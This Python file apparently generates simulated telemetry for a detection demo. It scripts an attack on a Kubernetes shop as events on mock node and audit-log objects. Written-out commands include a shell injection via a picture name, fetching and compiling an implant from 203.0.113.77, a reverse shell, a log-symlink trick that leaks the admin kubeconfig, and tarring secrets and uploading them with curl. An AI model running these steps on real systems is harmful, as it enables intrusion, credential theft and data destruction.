"""The story of the demonstration, told to a `Node` and an `AuditLog`.

A shop runs in a cluster. Its storefront shows previews of pictures and hands their names to a shell. Somebody
at 203.0.113.77 finds it, gets in, brings a compiler, builds a small implant, and gets out of the container:
the pod mounts the logs of its node, so that a link left there makes the kubelet read the administrator's
configuration for them. With it they read the secrets and delete the shop.
"""

from __future__ import annotations

from tiercel.demo.audit_log import AuditLog
from tiercel.demo.node import DROPPED, Container, Node, Process

INTRUDER = "203.0.113.77"
STOREFRONT = ("10.244.1.23", 8080)
CACHE = ("10.244.1.31", 6379)
API_SERVER = ("10.96.0.1", 443)
POD = "storefront-6c9d8b7f5-x2k4q"
LOG_OF_POD = f"/host/var/log/pods/shop_{POD}/storefront/0.log"
ENVIRONMENT = (
    "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
    f"HOSTNAME={POD}",
    "KUBERNETES_SERVICE_HOST=10.96.0.1",
    "NODE_ENV=production",
)


class Shop:
    """The node before anything happens: the node's own processes, the shop's two containers."""

    def __init__(self, node: Node) -> None:
        self.node = node
        self.storefront = Container(
            "storefront", "registry.example.com/shop/storefront:4.2.1", "shop", POD, STOREFRONT[0]
        )  # fmt: skip
        self.cache = Container("cart-cache", "docker.io/library/redis:7.4", "shop", "cart-cache-0", CACHE[0])
        node.capture.interface("eth0", "192.0.2.13", "255.255.255.0", "192.0.2.255")
        node.capture.user(0, 0, "root", "/root", "/bin/bash")
        node.capture.user(999, 999, "redis", "/data", "/usr/sbin/nologin")
        node.capture.group(0, "root")
        init = node.running(1, "/usr/lib/systemd/systemd", "--system", "--deserialize", "31")
        node.running(902, "/usr/bin/containerd", parent=init)
        node.running(1044, "/usr/bin/kubelet", "--config=/var/lib/kubelet/config.yaml", parent=init)
        shim = "/usr/bin/containerd-shim-runc-v2"
        first = node.running(20390, shim, "-namespace", "k8s.io", "-id", self.storefront.full_id, parent=init)
        second = node.running(20702, shim, "-namespace", "k8s.io", "-id", self.cache.full_id, parent=init)
        self.shim_of_cache = second
        self.server = node.running(
            20447, "node", "/app/server.js", parent=first, container=self.storefront,
            exepath="/usr/local/bin/node", env=ENVIRONMENT,
        )  # fmt: skip
        self.redis = node.running(
            20761, "redis-server", "*:6379", parent=second, container=self.cache,
            exepath="/usr/local/bin/redis-server", uid=999,
        )  # fmt: skip
        node.listen(self.server, 18, "0.0.0.0", STOREFRONT[1])
        node.listen(self.redis, 6, "0.0.0.0", CACHE[1])

    def serves(self, client: tuple[str, int], path: str) -> None:
        """A page is asked for, the cache is asked, the page is sent."""
        node, source = self.node, (STOREFRONT[0], client[1] - 7000)
        request = node.accept(self.server, client, STOREFRONT)
        node.receive(self.server, request, f"GET {path} HTTP/1.1\r\nHost: shop.example.com\r\n\r\n".encode())
        asked = node.connect(self.server, source, CACHE, pending=True)
        answered = node.accept(self.redis, source, CACHE)
        node.send(self.server, asked, b"*2\r\n$3\r\nGET\r\n$8\r\ncart:311\r\n")
        node.receive(self.redis, answered, b"*2\r\n$3\r\nGET\r\n$8\r\ncart:311\r\n")
        node.send(self.redis, answered, b"$-1\r\n")
        node.close(self.redis, answered)
        node.close(self.server, asked)
        node.read(self.server, "/app/views/page.html", b"<!doctype html>")
        node.send(self.server, request, b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n")
        node.close(self.server, request)
        node.wait(0.05)

    def is_looked_after(self) -> None:
        """The kubelet's check of the cache: a program that the runtime starts in the container."""
        node = self.node
        probe = node.fork(self.shim_of_cache, self.cache)
        node.execute(probe, "/usr/local/bin/redis-cli", "ping", exe="redis-cli")
        node.exit(probe)

    def injected(self, command: str) -> Process:
        """The intruder's request: what the storefront hands to a shell."""
        node = self.node
        request = node.accept(self.server, (INTRUDER, 41100 + int(node.now // 10**9 % 900)), STOREFRONT)
        node.receive(
            self.server, request, b"GET /preview?picture=a.png%3B HTTP/1.1\r\nHost: shop.example.com\r\n\r\n"
        )
        shell = node.execute(
            node.fork(self.server),
            "/usr/bin/dash",
            "-c",
            f"identify /uploads/a.png; {command}",
            exe="/bin/sh",
        )
        node.run(shell, "/usr/bin/identify", "/uploads/a.png", exe="identify")
        return shell


def tell(node: Node, log: AuditLog) -> None:
    """Everything, from the first customer to the last request."""
    shop = Shop(node)
    node.container_known(shop.storefront)
    node.container_known(shop.cache)
    for visitor in range(3):
        shop.serves(("198.51.100.20", 52000 + visitor), "/")
    shop.is_looked_after()
    _is_found(node, log, shop)
    _is_exploited(node, shop)
    implant = _is_settled_in(node, shop)
    _is_broken_out_of(node, log, implant)
    _is_robbed(node, log, implant)
    shop.serves(("198.51.100.21", 52100), "/cart")
    _is_deleted(node, log)


def _is_found(node: Node, log: AuditLog, shop: Shop) -> None:
    """The storefront gets connections that say nothing, the API server questions of nobody."""
    node.wait(41)
    for number in range(6):
        node.close(shop.server, node.accept(shop.server, (INTRUDER, 40210 + number), STOREFRONT))
        node.wait(0.03)
    for uri in ("/api/v1/namespaces/kube-system/pods", "/api/v1/secrets"):
        node.wait(0.4)
        log.request(node.now, "system:anonymous", "list", uri, source=INTRUDER, agent="curl/8.5.0", code=403)


def _is_exploited(node: Node, shop: Shop) -> None:
    node.wait(96)
    shell = shop.injected("id; cat /proc/1/environ")
    node.run(shell, "/usr/bin/id", exe="id")
    with node.started(shell, "/usr/bin/cat", "/proc/1/environ", exe="cat") as cat:
        node.read(cat, "/proc/1/environ", "\0".join(ENVIRONMENT).encode(), layer="")
    node.exit(shell)


def _is_settled_in(node: Node, shop: Shop) -> Process:
    """A compiler is installed, an implant fetched, built and started. Gives the implant."""
    node.wait(63)
    shell = shop.injected("apt-get install -y gcc libc6-dev")
    with node.started(shell, "/usr/bin/apt-get", "install", "-y", "gcc", "libc6-dev", exe="apt-get") as apt:
        with node.started(
            apt, "/usr/bin/dpkg", "--unpack", "/var/cache/apt/archives/gcc_12.2.0-3_amd64.deb"
        ) as dpkg:
            node.write(dpkg, "/usr/bin/gcc.dpkg-new", b"\x7fELF", 0o755)
        node.wait(9)
    node.exit(shell)

    node.wait(12)
    shell = shop.injected(
        f"curl -s -o /tmp/.x.c http://{INTRUDER}/x.c; gcc -o /tmp/.x /tmp/.x.c; /tmp/.x {INTRUDER} 8443 &"
    )
    with node.started(
        shell, "/usr/bin/curl", "-s", "-o", "/tmp/.x.c", f"http://{INTRUDER}/x.c", exe="curl"
    ) as curl:
        node.connect(curl, (STOREFRONT[0], 50412), (INTRUDER, 80), pending=True)
        node.write(curl, "/tmp/.x.c", b"#include <sys/socket.h>\n")
    with node.started(shell, "/usr/bin/gcc", "-o", "/tmp/.x", "/tmp/.x.c", exe="gcc", flags=DROPPED) as gcc:
        node.write(gcc, "/tmp/.x", b"\x7fELF", 0o755)
    implant = node.execute(node.fork(shell), "/tmp/.x", INTRUDER, "8443", flags=DROPPED)
    line = node.connect(implant, (STOREFRONT[0], 50460), (INTRUDER, 8443))
    for standard in (0, 1, 2):
        node.duplicate(implant, line, standard)
    node.exit(shell)
    return implant


def _is_broken_out_of(node: Node, log: AuditLog, implant: Process) -> None:
    """A link in the logs of the node, and the kubelet follows it."""
    node.wait(48)
    shell = node.execute(node.fork(implant), "/usr/bin/dash", exe="sh")
    with node.started(shell, "/usr/bin/curl", "-sk", f"https://{API_SERVER[0]}/api", exe="curl") as curl:
        node.connect(curl, (STOREFRONT[0], 50498), API_SERVER, pending=True)
    node.wait(22)
    with node.started(shell, "/usr/bin/ln", "-sf", "/etc/kubernetes/admin.conf", LOG_OF_POD, exe="ln") as ln:
        node.symlink(ln, "/etc/kubernetes/admin.conf", LOG_OF_POD)
    node.wait(2)
    log.request(
        node.now, "system:serviceaccount:shop:storefront", "get",
        f"/api/v1/namespaces/shop/pods/{POD}/log?tailLines=200",
        source=STOREFRONT[0], agent="curl/7.88.1", code=200,
    )  # fmt: skip
    node.exit(shell)


def _is_robbed(node: Node, log: AuditLog, implant: Process) -> None:
    """With the administrator's configuration: the secrets, from outside. And from inside, what lies about."""
    node.wait(75)
    log.request(
        node.now, "kubernetes-admin", "list", "/api/v1/secrets?limit=500",
        source=INTRUDER, agent="kubectl/v1.31.2 (linux/amd64)", code=200,
    )  # fmt: skip
    node.wait(8)
    shell = node.execute(node.fork(implant), "/usr/bin/dash", exe="sh")
    loot = ("czf", "/tmp/.d.tgz", "/app/.env", "/var/run/secrets", "/root")
    with node.started(shell, "/usr/bin/tar", *loot, exe="tar") as tar:
        node.read(tar, "/app/.env", b"DATABASE_URL=")
        node.write(tar, "/tmp/.d.tgz", b"\x1f\x8b")
    node.wait(1)
    with node.started(
        shell, "/usr/bin/curl", "-sT", "/tmp/.d.tgz", f"https://{INTRUDER}:8443/d", exe="curl"
    ) as curl:
        node.read(curl, "/tmp/.d.tgz", b"\x1f\x8b", layer="FD_UPPER_LAYER")
        node.connect(curl, (STOREFRONT[0], 50522), (INTRUDER, 8443), pending=True)
    node.exit(shell)


def _is_deleted(node: Node, log: AuditLog) -> None:
    node.wait(130)
    log.request(
        node.now, "kubernetes-admin", "delete", "/apis/apps/v1/namespaces/shop/deployments/storefront",
        source=INTRUDER, agent="kubectl/v1.31.2 (linux/amd64)", code=200,
    )  # fmt: skip
